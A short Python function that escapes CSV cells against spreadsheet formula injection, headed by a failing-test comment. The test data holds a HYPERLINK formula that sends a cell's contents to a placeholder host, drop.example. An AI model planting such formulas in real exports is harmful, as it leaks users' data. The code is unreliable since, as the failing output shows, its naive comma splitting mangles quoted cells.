# Line 1: expected ""\"name\",\"message\"\r\n\"wren\",\"When do you open?\"\r\n\"rook\",\"'=HYPERLINK(\"\"http://drop.example/?\"\"&A2,\"\"Invoice\"\")\"\r\n"", got ""\"name\",\"message\"\r\n\"wren\",\"When do you open?\"\r\n\"rook\",\"'=HYPERLINK(\"\"http://drop.example/?\"\"&A2\",\"Invoice\"\")\"\r\n"".
import re


def clean_csv(text):
    result = ""
    for line in text.splitlines():
        if line:
            cells = []
            for cell in line.split(","):
                cell = cell.strip('"').replace('""', '"')
                if cell.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t") and not re.fullmatch(r"[+-]\d+(\.\d+)?", cell):
                    cell = "'" + cell
                cells.append('"' + cell.replace('"', '""') + '"')
            result += ",".join(cells) + "\r\n"
    return result
